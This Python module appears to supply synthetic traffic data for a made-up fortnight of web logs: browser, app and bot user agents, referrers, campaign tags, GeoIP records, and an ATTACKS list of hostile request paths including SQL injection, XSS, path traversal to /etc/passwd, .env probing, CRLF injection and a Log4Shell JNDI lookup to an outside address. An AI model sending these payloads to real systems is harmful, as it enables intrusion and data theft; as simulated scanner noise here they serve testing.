"""User agents, networks and referrers of the made-up fortnight."""

from __future__ import annotations

_MOZILLA = "Mozilla/5.0"
_KHTML = "AppleWebKit/537.36 (KHTML, like Gecko)"

DESKTOPS = [
    f"{_MOZILLA} ({system}) {_KHTML} Chrome/{version}.0.0.0 Safari/537.36"
    for system in ("Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64")
    for version in (141, 142, 143, 144, 145)
] + [
    f"{_MOZILLA} ({system}; rv:{version}.0) Gecko/20100101 Firefox/{version}.0"
    for system in ("Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10.15", "X11; Linux x86_64")
    for version in (140, 146, 147)
]
DESKTOPS += [f"{agent} Edg/144.0.0.0" for agent in DESKTOPS[:3]]
DESKTOPS += [
    f"{_MOZILLA} (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    f"Version/{version} Safari/605.1.15"
    for version in ("18.5", "26.1", "26.2")
]
PHONES = [
    f"{_MOZILLA} (iPhone; CPU iPhone OS {system} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    f"Version/{version} Mobile/15E148 Safari/604.1"
    for system, version in (("18_5", "18.5"), ("18_6", "18.6"), ("18_7", "26.1"))
] + [
    f"{_MOZILLA} (Linux; Android {system}; {model}) {_KHTML} Chrome/144.0.0.0 Mobile Safari/537.36"
    for system, model in (("15", "Pixel 9"), ("16", "SM-S931B"), ("14", "SM-A546B"), ("13", "moto g54"), ("10", "K"))
]
TABLETS = [
    f"{_MOZILLA} (iPad; CPU OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 "
    "Mobile/15E148 Safari/604.1"
]
APPS = [
    "SessionTracker/3.2 (iPhone; iOS 18.5; Scale/3.00)",
    "SessionTracker/3.2 (iPhone; iOS 26.1; Scale/3.00)",
    "SessionTracker/3.1 (Linux; Android 15; Pixel 9)",
    "SessionTracker/3.2 (Linux; Android 16; SM-S931B)",
]
OFFICE = DESKTOPS[3]  # every computer of an office has the same browser in the same version
BOTS = [
    f"{_MOZILLA} (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    f"{_MOZILLA} (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    f"{_MOZILLA} {_KHTML}; compatible; GPTBot/1.2; +https://openai.com/gptbot",
    f"{_MOZILLA} {_KHTML}; compatible; ClaudeBot/1.0; +claudebot@anthropic.com",
    f"{_MOZILLA} (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "curl/8.11.0",
    "python-requests/2.32.3",
    f"{_MOZILLA} (compatible; Uptime/1.0; http://uptime.example)",
    "",
]
REFERRERS = [
    "https://www.google.com/",
    "https://www.google.com/",
    "https://www.bing.com/",
    "https://duckduckgo.com/",
    "https://www.linkedin.com/",
    "https://l.facebook.com/",
    "https://chatgpt.com/",
    "https://www.perplexity.ai/",
    "https://mail.google.com/",
    "https://directory.example.org/practice-software",
    "",
    "",
    "",
    "",
]
CAMPAIGNS = [
    "utm_source=newsletter&utm_medium=email&utm_campaign=spring",
    "utm_source=google&utm_medium=cpc&utm_campaign=practice+software&gclid=abc123",
    "utm_source=linkedin&utm_medium=paid_social&utm_campaign=owners",
    "utm_source=partner&utm_medium=affiliate&utm_campaign=directory",
]
ATTACKS = [
    "/search?q=1%27%20union%20select%20password%20from%20users--",
    "/?x=<script>alert(1)</script>",
    "/../../../../etc/passwd",
    "/.env",
    "/wp-login.php",
    "/cgi-bin/%0d%0aSet-Cookie:a=b",
    '/a\\x22 quoted"',
    "/" + "A" * 3000,
    "/clients/${jndi:ldap://203.0.113.250/a}",
]
CITIES: list[tuple[str, dict[str, object]]] = [
    (network, {
        "country": {"iso_code": country, "names": {"en": name}},
        "subdivisions": [{"iso_code": region, "names": {"en": region}}],
        "city": {"names": {"en": city}},
    })
    for network, country, name, region, city in (
        ("203.0.113.0/25", "US", "United States", "CA", "Oakland"),
        ("203.0.113.128/25", "US", "United States", "NY", "Albany"),
        ("198.18.0.0/17", "US", "United States", "TX", "Austin"),
        ("198.18.128.0/17", "DE", "Germany", "BE", "Berlin"),
        ("198.19.0.0/17", "FR", "France", "IDF", "Paris"),
        ("198.19.128.0/17", "GB", "United Kingdom", "ENG", "Leeds"),
        ("198.51.100.0/24", "US", "United States", "WA", "Seattle"),
        ("192.0.2.0/24", "NL", "Netherlands", "NH", "Amsterdam"),
        ("2001:db8::/33", "US", "United States", "OR", "Portland"),
        ("2001:db8:8000::/33", "SE", "Sweden", "AB", "Stockholm"),
    )
]  # fmt: skip
